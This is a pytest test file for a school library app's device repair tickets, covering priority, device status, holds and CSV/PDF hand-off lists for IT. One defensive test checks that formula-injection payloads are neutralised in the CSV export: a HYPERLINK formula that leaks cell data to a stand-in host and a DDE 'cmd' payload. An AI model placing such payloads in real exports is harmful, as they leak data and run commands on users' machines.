"""Repair tickets: priority from the matrix, the device's status follows the ticket, and IT
gets a printable and a CSV hand-off list."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from pypdf import PdfReader

from lms_desktop.circulation.holds import holds_for_patron, place_hold
from lms_desktop.circulation.patrons import PatronInput, create_patron
from lms_desktop.db.unit_of_work import UnitOfWork
from lms_desktop.devices.register import DeviceInput, add_device, device_input_of
from lms_desktop.devices.repairs import (
    open_ticket,
    tickets,
    update_ticket,
    write_handoff_csv,
    write_handoff_pdf,
)
from lms_desktop.errors import ConflictError, ValidationError


def test_a_ticket_puts_the_device_in_repair_with_its_priority(
    uow: UnitOfWork, three_chromebooks: list[str]
) -> None:
    ticket = open_ticket(uow, "CB-0001", "Screen flickers, then black", "high", "medium")
    assert (ticket.impact, ticket.urgency, ticket.priority) == (1, 2, 2)
    assert ticket.priority_name == "High"
    assert ticket.status == "open"
    assert device_input_of(uow, "CB-0001").status == "in_repair"


def test_one_open_ticket_per_device(uow: UnitOfWork, three_chromebooks: list[str]) -> None:
    open_ticket(uow, "CB-0001", "No power", 1, 1)
    with pytest.raises(ConflictError, match="already has repair ticket"):
        open_ticket(uow, "CB-0001", "Also the hinge", 3, 3)


def test_a_ticket_needs_a_symptom(uow: UnitOfWork, three_chromebooks: list[str]) -> None:
    with pytest.raises(ValidationError, match="symptom"):
        open_ticket(uow, "CB-0001", "  ", 1, 1)


def test_the_ticket_travels_to_it_and_back_and_the_device_returns_to_the_shelf(
    uow: UnitOfWork, three_chromebooks: list[str]
) -> None:
    ticket = open_ticket(uow, "CB-0002", "Keyboard: E key missing", "medium", "low")
    sent = update_ticket(uow, ticket.id, status="sent_to_it", it_ticket_number="INC0042")
    assert sent.ticket.status_name == "Sent to IT"
    assert sent.ticket.it_ticket_number == "INC0042"
    assert sent.device_status == "in_repair"
    waiting = update_ticket(uow, ticket.id, status="waiting_parts")
    assert waiting.device_status == "in_repair"
    fixed = update_ticket(uow, ticket.id, status="fixed")
    assert fixed.device_status == "available"
    assert fixed.ticket.closed_at is not None
    assert device_input_of(uow, "CB-0002").status == "available"
    with pytest.raises(ConflictError, match="Reopen"):
        update_ticket(uow, ticket.id, status="sent_to_it")
    reopened = update_ticket(uow, ticket.id, status="open")
    assert reopened.device_status == "in_repair"


def test_a_repaired_hotspot_with_a_hold_waiting_goes_to_the_hold_shelf(uow: UnitOfWork) -> None:
    maya = create_patron(uow, PatronInput("P1001", "Maya", "Okafor", homeroom="7B"))
    add_device(uow, DeviceInput("HS-1", "hotspot"))
    ticket = open_ticket(uow, "HS-1", "Will not connect", "high", "medium")
    # Maya's family has no internet: she waits for the only hotspot, which is in repair
    place_hold(uow, maya.id, item_barcode="HS-1")
    fixed = update_ticket(uow, ticket.id, status="fixed")
    assert fixed.device_status == "on_hold_shelf"
    assert fixed.hold_slip is not None and fixed.hold_slip.patron_name == "Maya Okafor"
    assert device_input_of(uow, "HS-1").status == "on_hold_shelf"
    [hold] = holds_for_patron(uow, maya.id)
    assert hold.status == "ready"


def test_a_written_off_device_is_retired(uow: UnitOfWork, three_chromebooks: list[str]) -> None:
    ticket = open_ticket(uow, "CB-0003", "Dropped down the stairs", "high", "low")
    assert update_ticket(uow, ticket.id, status="written_off").device_status == "retired"


def test_changing_impact_recomputes_priority(uow: UnitOfWork, three_chromebooks: list[str]) -> None:
    ticket = open_ticket(uow, "CB-0001", "Slow", "low", "low")
    assert ticket.priority == 5
    assert update_ticket(uow, ticket.id, impact="high").ticket.priority == 3


def test_hand_off_lists_open_tickets_most_urgent_first_as_csv_and_pdf(
    uow: UnitOfWork, three_chromebooks: list[str], tmp_path: Path
) -> None:
    low = open_ticket(uow, "CB-0001", "Sticky trackpad", "low", "low")
    critical = open_ticket(uow, "CB-0002", "Battery swelling — unsafe", "high", "high")
    done = open_ticket(uow, "CB-0003", "Loose hinge", "medium", "medium")
    update_ticket(uow, done.id, status="fixed")
    active = tickets(uow)
    assert [t.id for t in active] == [critical.id, low.id]

    csv_path = write_handoff_csv(active, tmp_path / "handoff.csv")
    with csv_path.open(encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["asset_tag"] for r in rows] == ["CB-0002", "CB-0001"]
    assert rows[0]["priority"] == "1 Critical"
    assert rows[0]["serial_number"] == "SN-CB-0002"

    pdf_path = write_handoff_pdf(active, tmp_path / "handoff.pdf", "Lincoln Middle", "2026-11-22")
    text = "".join(page.extract_text() for page in PdfReader(pdf_path).pages)
    assert "Lincoln Middle" in text
    assert "Battery swelling" in text and "Sticky trackpad" in text
    assert "Loose hinge" not in text
    assert text.index("CB-0002") < text.index("CB-0001")


def test_an_empty_hand_off_says_so(tmp_path: Path) -> None:
    pdf = write_handoff_pdf([], tmp_path / "none.pdf", "Lincoln Middle", str(date.today()))
    assert "No open repair tickets" in PdfReader(pdf).pages[0].extract_text()


@pytest.mark.parametrize(
    "symptom",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
        "+1 more key missing",
        "-- no power at all",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
    ],
)
def test_a_symptom_typed_like_a_formula_stays_text_in_the_hand_off_csv(
    uow: UnitOfWork, three_chromebooks: list[str], tmp_path: Path, symptom: str
) -> None:
    ticket = open_ticket(uow, "CB-0001", symptom, "high", "high")
    update_ticket(uow, ticket.id, it_ticket_number="=1+1")
    csv_path = write_handoff_csv(tickets(uow), tmp_path / "handoff.csv")
    with csv_path.open(encoding="utf-8-sig") as handle:
        [row] = list(csv.DictReader(handle))
    # a spreadsheet shows a cell starting with an apostrophe as the text after it
    assert row["symptom"] == "'" + symptom
    assert row["it_ticket_number"] == "'=1+1"
    assert row["asset_tag"] == "CB-0001"  # ordinary cells are left alone

    # the PDF for IT prints the symptom as it was typed
    pdf = write_handoff_pdf(tickets(uow), tmp_path / "handoff.pdf", "Lincoln Middle", "today")
    assert "'" + symptom[:8] not in PdfReader(pdf).pages[0].extract_text()
